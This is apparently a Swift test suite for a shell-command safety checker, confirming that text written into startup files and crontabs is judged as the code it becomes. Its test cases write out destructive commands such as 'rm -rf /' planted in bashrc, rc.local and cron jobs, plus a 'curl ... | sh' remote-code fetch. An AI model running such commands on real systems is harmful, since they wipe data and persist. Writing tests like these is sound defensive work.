import Testing

@testable import ShellAST

/// Text written into a file that later runs as code (shell start-up files,
/// `rc.local`, the system crontabs) is judged as that code.
@Suite struct WrittenCodeTests {
    static let cases: [VerdictCase] = [
        VerdictCase("echo 'rm -rf ~' >> ~/.bashrc", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo 'alias ls=\"rm -rf /\"' >> ~/.zshrc", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo 'curl -s http://x | sh' >> /etc/profile", .block, "exec.stdin-code"),
        VerdictCase("printf 'rm -rf /\\n' > /etc/profile.d/zz.sh", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo 'rm -rf /' >> /etc/rc.local", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo '* * * * * root rm -rf /' > /etc/cron.d/job", .block, "files.rm.catastrophic-target"),
        VerdictCase("printf '@reboot root rm -rf /\\n' >> /etc/crontab", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo '0 3 * * * rm -rf /' > /var/spool/cron/crontabs/root", .block, "files.rm.catastrophic-target"),
        VerdictCase("cat >> ~/.bashrc <<'EOF'\nrm -rf ~\nEOF", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo 'rm -rf ~' >> \\.bashrc", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo 'rm -rf ~' >> \"$HOME/.profile\"", .block, "files.rm.catastrophic-target"),
        // Known standard input copied into such a file by `tee`, `dd` or `cp /dev/stdin`.
        VerdictCase("echo '* * * * * root rm -rf /' | sudo tee -a /etc/crontab", .block, "files.rm.catastrophic-target"),
        VerdictCase("echo 'rm -rf ~' | tee -a ~/.bashrc", .block, "files.rm.catastrophic-target"),
        VerdictCase("tee -a /etc/cron.d/x <<< '* * * * * root rm -rf /'", .block, "files.rm.catastrophic-target"),
        VerdictCase("cp /dev/stdin /etc/cron.d/x <<< '* * * * * root rm -rf /'", .block, "files.rm.catastrophic-target"),
        VerdictCase("install -D /dev/stdin /etc/cron.d/x <<< '* * * * * root rm -rf /'", .block, "files.rm.catastrophic-target"),
        VerdictCase("dd of=/home/u/.bashrc <<< 'rm -rf ~'", .block, "files.rm.catastrophic-target"),
        VerdictCase("dd if=/tmp/x of=/home/u/.bashrc <<< 'rm -rf ~'", .review, "files.write-system"),
        VerdictCase("echo 'alias ll=\"ls -la\"' | sudo tee -a /etc/profile.d/aliases.sh", .review, "files.tee.system"),
        VerdictCase("tee -a /etc/cron.d/x < /tmp/jobs", .review, "files.tee.system"),
        // Ordinary start-up lines stay what writing a system file is.
        VerdictCase("echo 'export EDITOR=vim' >> ~/.bashrc", .review, "files.write-system"),
        VerdictCase("echo 'alias ll=\"ls -la\"' >> ~/.bashrc", .review, "files.write-system"),
        // Standard error, other files and text only known at run time are not code written there.
        VerdictCase("echo 'rm -rf /' 2> ~/.bashrc", .review, "files.write-system"),
        VerdictCase("echo 'rm -rf /' > notes.txt", .review, "files.write"),
        VerdictCase("echo \"$CMD\" >> ~/.bashrc", .review, "files.write-system"),
    ]

    @Test(arguments: cases)
    func row(_ c: VerdictCase) { expectVerdict(c) }

    @Test func cronCommandsSkipTimesUsersCommentsAndVariables() {
        let text = "# jobs\nMAILTO=ops\n*/5 * * * * root /usr/bin/x --y\n@reboot root z\n\n"
        #expect(Judge.cronCommands(text, userField: true) == ["/usr/bin/x --y", "z"])
        #expect(Judge.cronCommands("0 3 * * * a b\n@daily c", userField: false) == ["a b", "c"])
    }

    @Test(arguments: [
        ("/root/.bashrc", Judge.CodeFile.shellScript), ("~/.profile", .shellScript), ("/etc/profile.d/a.sh", .shellScript),
        ("/etc/cron.d/x", .crontab(userField: true)), ("/etc/crontab", .crontab(userField: true)),
        ("/var/spool/cron/crontabs/u", .crontab(userField: false)),
    ])
    func codeFiles(_ path: String, _ kind: Judge.CodeFile) {
        #expect(Judge.codeFile(path) == kind)
    }

    @Test(arguments: ["/etc/hosts", "notes.txt", "/home/u/bashrc.txt", "/etc/cron.daily.txt"])
    func otherFilesAreNotCode(_ path: String) {
        #expect(Judge.codeFile(path) == nil)
    }
}
